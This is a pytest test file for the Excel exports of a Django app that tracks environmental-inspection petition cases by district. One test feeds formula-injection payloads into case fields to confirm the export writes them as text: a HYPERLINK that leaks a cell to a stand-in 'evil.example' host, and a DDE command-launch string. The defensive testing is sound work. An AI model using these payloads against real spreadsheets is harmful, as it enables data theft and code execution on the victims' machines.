"""The exported workbooks open with openpyxl and match the ledger row for row."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from cases.models import Batch, Case
from cases.services import case_update
from casework.models import Region, User
from tests.cases.conftest import advance
from tests.factories import new_case, source

pytestmark = pytest.mark.django_db


@pytest.fixture
def batch_ledger(supervisor: User, jizhou_officer: User, jizhou: Region, qingyuan: Region) -> Batch:
    src = source()
    batch = Batch.objects.create(source=src, number=3, handed_down_on="2026-11-01")
    for number, region in (("X3JX1", jizhou), ("X3JX2", jizhou), ("X3JX3", qingyuan)):
        new_case(
            supervisor,
            region,
            acceptance_number=number,
            batch=batch,
            source=src,
            pollution_types=["water", "air"],
        )
    case = Case.objects.get(acceptance_number="X3JX1")
    case_update(
        case_id=case.pk,
        user=jizhou_officer,
        changes={
            "penalty_cases": 1,
            "fines_10k_yuan": "12.5",
            "people_summoned": 2,
            "investigation": "经查属实",
        },
    )
    advance(case, jizhou_officer, supervisor, "closed")
    return batch


def sheet_rows(content: bytes) -> list[list[object]]:
    book = load_workbook(io.BytesIO(content), read_only=True)
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


def download(
    client: APIClient, url: str, headers: dict[str, str] | None = None, **params: str
) -> bytes:
    response = client.get(url, params, headers=headers)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return b"".join(response.streaming_content)


def test_the_ledger_export_matches_the_ledger_row_for_row(
    batch_ledger: Batch, supervisor: User
) -> None:
    client = APIClient()
    client.force_authenticate(supervisor)
    rows = sheet_rows(download(client, "/api/v1/exports/ledger.xlsx"))
    header, data = rows[0], rows[1:]
    assert header[:4] == ["序号", "受理编号", "交办问题基本情况", "行政区域"]
    assert [r[1] for r in data] == ["X3JX1", "X3JX2", "X3JX3"]
    by_number = {r[1]: dict(zip(header, r, strict=True)) for r in data}
    first = by_number["X3JX1"]
    assert first["污染类型"] == "大气、水"
    assert first["办结状态"] == "已销号"
    assert "立案处罚1家，罚款12.5万元" in first["处理情况"]
    assert first["批次"] == "第3批" and first["罚款金额（万元）"] == 12.5
    assert by_number["X3JX3"]["行政区域"] == "青原区"
    assert by_number["X3JX2"]["办结状态"] == "正在办理"
    # Choice fields by their labels, in the language of the request (read once per export).
    assert (first["办理状态"], first["问题类别"]) == ("已销号", "交办信访件")
    assert first["是否属实"] == "属实" and first["来电/来信"] is None  # not recorded: empty
    english = sheet_rows(download(client, "/api/v1/exports/ledger.xlsx", {"Accept-Language": "en"}))
    first = dict(zip(header, english[1], strict=True))
    assert (first["办理状态"], first["问题类别"]) == ("Closed out", "Petition case")


def test_the_step_dates_are_the_citys_days(batch_ledger: Batch, supervisor: User) -> None:
    """Closed at 01:30 in Ji'an is that day, though it is still the day before in UTC; fed back
    at 23:59 is that day, though the step dates are read as dates in SQL, not in Python."""
    Case.objects.filter(acceptance_number="X3JX1").update(
        fed_back_at=dt.datetime(2026, 11, 20, 15, 59, tzinfo=dt.UTC),
        closed_at=dt.datetime(2026, 11, 20, 17, 30, tzinfo=dt.UTC),
    )
    client = APIClient()
    client.force_authenticate(supervisor)
    header, *data = sheet_rows(download(client, "/api/v1/exports/ledger.xlsx"))
    first = dict(zip(header, data[0], strict=True))
    assert first["受理编号"] == "X3JX1"
    assert first["反馈日期"] == dt.datetime(2026, 11, 20)
    assert first["销号日期"] == dt.datetime(2026, 11, 21)
    assert first["办结日期"] is not None and first["验收日期"] is not None
    assert dict(zip(header, data[1], strict=True))["销号日期"] is None  # not closed: empty


def test_exports_honour_the_scope_and_the_filters(
    batch_ledger: Batch, jizhou_officer: User
) -> None:
    client = APIClient()
    client.force_authenticate(jizhou_officer)
    numbers = [r[1] for r in sheet_rows(download(client, "/api/v1/exports/ledger.xlsx"))[1:]]
    assert numbers == ["X3JX1", "X3JX2"]
    closed = sheet_rows(download(client, "/api/v1/exports/ledger.xlsx", state="closed"))[1:]
    assert [r[1] for r in closed] == ["X3JX1"]


def test_a_batchs_disclosure_table(
    batch_ledger: Batch, supervisor: User, qingyuan_officer: User
) -> None:
    client = APIClient()
    client.force_authenticate(supervisor)
    rows = sheet_rows(
        download(client, f"/api/v1/exports/batches/{batch_ledger.pk}/disclosure.xlsx")
    )
    assert rows[0][0] == "第三轮中央生态环境保护督察第3批群众信访举报转办和边督边改公开情况一览表"
    assert rows[1] == [
        "序号",
        "受理编号",
        "交办问题基本情况",
        "行政区域",
        "污染类型",
        "调查核实情况",
        "是否属实",
        "处理和整改情况",
        "责任人被处理情况",
        "办结状态",
    ]
    assert rows[2][1] == "X3JX1" and rows[2][8] == "约谈2人次" and rows[2][6] == "属实"
    assert len(rows) == 5
    client.force_authenticate(qingyuan_officer)
    own = sheet_rows(download(client, f"/api/v1/exports/batches/{batch_ledger.pk}/disclosure.xlsx"))
    assert [r[1] for r in own[2:]] == ["X3JX3"]
    assert client.get("/api/v1/exports/batches/999999/disclosure.xlsx").status_code == 404


def test_text_that_looks_like_a_formula_is_written_as_text_and_control_characters_do_not_break(
    supervisor: User, jizhou_officer: User, jizhou: Region
) -> None:
    typed = {
        "investigation": '=HYPERLINK("http://evil.example/leak?d="&B3,"x")',
        "contact_phone": "=cmd|' /C calc'!A0",
        "rectification_goal": "@SUM(1+1)",
    }
    batch = Batch.objects.create(source=source(), number=9, handed_down_on="2026-11-01")
    case = new_case(
        supervisor,
        jizhou,
        acceptance_number="FORMULA-1",
        batch=batch,
        source=batch.source,
        summary="第一行\x0b第二行（Word 的换行）\x01",
    )
    case_update(case_id=case.pk, user=jizhou_officer, changes=typed)
    client = APIClient()
    client.force_authenticate(supervisor)
    for url in (
        "/api/v1/exports/ledger.xlsx",
        f"/api/v1/exports/batches/{batch.pk}/disclosure.xlsx",
    ):
        book = load_workbook(io.BytesIO(download(client, url)))
        sheet = book.worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url  # no formula at all
        by_value = {c.value: c for c in cells}
        investigation = by_value[typed["investigation"]]
        assert investigation.data_type == "s" and investigation.quotePrefix
        assert "第一行\n第二行（Word 的换行）" in by_value
    ledger = load_workbook(io.BytesIO(download(client, "/api/v1/exports/ledger.xlsx")))
    values = {c.value for row in ledger.worksheets[0].iter_rows() for c in row}
    assert typed["contact_phone"] in values and typed["rectification_goal"] in values


def test_the_workbooks_are_ready_to_print(batch_ledger: Batch, supervisor: User) -> None:
    """Widths, a frozen and filtered header, wrapped long texts, a heading centred across the
    table, landscape pages one page wide with the header repeated."""
    client = APIClient()
    client.force_authenticate(supervisor)
    content = download(client, f"/api/v1/exports/batches/{batch_ledger.pk}/disclosure.xlsx")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.freeze_panes == "B3"
    assert sheet.auto_filter.ref == "A2:J5"
    assert sheet.column_dimensions["C"].width == 40  # 交办问题基本情况
    assert sheet.column_dimensions["A"].width == 6
    title = sheet["A1"]
    assert (title.font.bold, title.font.size, title.alignment.horizontal) == (
        True,
        14,
        "centerContinuous",
    )
    assert sheet["J1"].alignment.horizontal == "centerContinuous"
    assert sheet["C2"].font.bold and sheet["C3"].alignment.wrap_text
    assert sheet.print_title_rows == "$2:$2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_the_list_exports_every_case_its_filters_find(
    supervisor: User, jizhou_officer: User, jizhou: Region, qingyuan: Region
) -> None:
    """Not the 50 rows of the page: all the filtered cases, with how late each is and its last
    progress report; an officer's export holds their county's cases only."""
    import datetime as dt

    from django.test import Client
    from django.utils import timezone

    from cases.services import case_transition, progress_report_add

    today = timezone.localdate()
    late = new_case(
        supervisor,
        jizhou,
        acceptance_number="LATE-1",
        assigned_on=today - dt.timedelta(days=30),
        deadline=today - dt.timedelta(days=4),
    )
    case_transition(case_id=late.pk, user=jizhou_officer, transition="start")
    progress_report_add(case_id=late.pk, user=jizhou_officer, text="已完成管网改造一半", percent=50)
    for n in range(55):
        new_case(supervisor, jizhou if n % 2 else qingyuan, acceptance_number=f"LIST-{n:03d}")
    web = Client()
    web.force_login(supervisor)
    page = web.get("/admin/cases/case/", {"state__exact": "assigned"}).content.decode()
    assert 'href="/admin/cases/case/export.xlsx?state__exact=assigned"' in page
    response = web.get("/admin/cases/case/export.xlsx", {"state__exact": "assigned"})
    assert response.status_code == 200
    rows = sheet_rows(b"".join(response.streaming_content))
    assert len(rows) == 1 + 55
    everything = sheet_rows(b"".join(web.get("/admin/cases/case/export.xlsx").streaming_content))
    header = everything[0]
    assert header[-2:] == ["逾期天数（自然日）", "最近进展"]
    row = next(dict(zip(header, r, strict=True)) for r in everything[1:] if r[1] == "LATE-1")
    assert (row["逾期天数（自然日）"], row["最近进展"]) == (4, "已完成管网改造一半")
    web.force_login(jizhou_officer)
    own = sheet_rows(b"".join(web.get("/admin/cases/case/export.xlsx").streaming_content))
    assert len(own) == 1 + 1 + 27 and all(r[3] == "吉州区" for r in own[1:])
    wrong = web.get("/admin/cases/case/export.xlsx", {"no_such_field": "x"})
    assert wrong.status_code == 302
